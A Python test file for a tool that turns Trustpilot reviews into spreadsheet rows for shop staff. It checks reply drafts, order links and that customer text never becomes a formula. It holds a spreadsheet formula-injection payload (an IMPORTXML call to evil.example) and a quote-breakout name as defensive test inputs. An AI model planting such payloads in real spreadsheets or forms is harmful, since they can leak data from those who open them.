"""Reviews as staff read them. What a customer wrote stays text, whatever it looks like."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from sync.core.cells import Formula, Raw
from sync.core.records import Review
from sync.rows import rows
from sync.rows.basis import Basis
from tests.support.records import AS_OF, NOW, SETTINGS, ago, book, by_key, order, review

HOSTILE = '=IMPORTXML("https://evil.example","//a")'


def cells(one: Review, *others: object, **staff: Raw) -> dict[str, object]:
    typed = {"trustpilot": {one.key: staff}}
    return by_key(rows("trustpilot", Basis(book(one, *others, staff=typed), SETTINGS, AS_OF)))[one.key]


UNKNOWN = (
    "Hello Ana, thank you for telling us. We are sorry, and we want to put it right, but cannot find your order under "
    "this name. Please write to us through the contact page of our shop, so that we can help. Lumen"
)


def test_a_bad_review_without_an_order_reads_like_this() -> None:
    assert cells(review()) == {
        "whose": "nobody yet",
        "stars_at_first": 1,
        "stars": 1,
        "brand": "Lumen",
        "reviewer": Formula(f'=HYPERLINK("https://www.trustpilot.com/reviews/{"0" * 23}a","Ana B.")'),
        "says": "Late · It never came.",
        "order": None,
        "how_found": "Not found",
        "replied_on": None,
        "posted": ago(hours=20),
        "full_text": "It never came.",
        "language": "en",
        "invited": "No",
        "verified": "Yes",
        "counts": "Yes",
        "info_asked_on": None,
        "info_answered_on": None,
        "edited_on": None,
        "removed_on": None,
        "do_by": ago(hours=20) + timedelta(hours=24),
        "next_step": "Order unknown → reply in public, ask who the reviewer is",
        "about_order": None,
        "reply_draft": UNKNOWN,
        "reply_check": "OK",
        "changed": None,
        "private_message": None,
        "cause_guessed": "Delivery: slow on the way",
    }


def test_text_of_customers_is_never_a_formula() -> None:
    row = cells(review(title=HOSTILE, text=HOSTILE, consumer_name=HOSTILE))
    assert [row["reviewer"], row["full_text"]] == [HOSTILE, HOSTILE]
    assert not [name for name, cell in row.items() if isinstance(cell, Formula)]


def test_a_name_in_any_script_is_a_link_and_one_with_a_quote_is_not() -> None:
    assert isinstance(cells(review(consumer_name="Ольга О’Нил-Смит"))["reviewer"], Formula)
    assert cells(review(consumer_name='Ana"&A1&"'))["reviewer"] == 'Ana"&A1&"'
    assert cells(review(consumer_name=None))["reviewer"] == Formula(
        f'=HYPERLINK("https://www.trustpilot.com/reviews/{"0" * 23}a","no name")'
    )


def test_says_keeps_200_characters_on_one_line() -> None:
    row = cells(review(title="Bad", text="word\n" * 5000))
    assert row["says"] == "Bad · " + ("word " * 40).rstrip() + " …"
    assert cells(review(title="", text=""))["says"] is None


def test_the_order_is_a_link_and_says_how_it_was_found() -> None:
    linked = review(order_id="gid://shopify/Order/5001", order_name="#1042", found_by="reference number")
    row = cells(linked, order())
    assert row["order"] == Formula('=HYPERLINK("https://admin.shopify.com/store/lumen/orders/5001","#1042")')
    assert row["how_found"] == "Reference no."


def test_the_order_that_staff_typed_wins() -> None:
    other = order("5009", name="#2000", number=2000)
    linked = review(order_id="gid://shopify/Order/5001", order_name="#1042", found_by="name and date")
    row = cells(linked, order(), other, order_ours="#2000")
    assert (row["how_found"], str(row["order"]).count("5009")) == ("Typed by us", 1)
    assert cells(linked, order(), order_ours="")["how_found"] == "Name and date: please check"


def test_a_removed_review_keeps_its_row_for_as_long_as_others() -> None:
    old = review(created_at=ago(days=200), removed_at=ago(days=1))
    assert cells(old)["removed_on"] == ago(days=1)
    kept = [replace(old, removed_at=None), replace(old, id="b" * 24, removed_at=ago(days=61))]
    assert rows("trustpilot", Basis(book(*kept), SETTINGS, AS_OF)) == []
    assert len(rows("trustpilot", Basis(book(*kept), replace(SETTINGS, show_for_days=36_500), AS_OF))) == 2


def test_newest_first() -> None:
    older, newer = review("a" * 24, created_at=ago(days=2)), review("b" * 24, created_at=NOW)
    assert [r.key[-1] for r in rows("trustpilot", Basis(book(older, newer), SETTINGS, AS_OF))] == ["b", "a"]
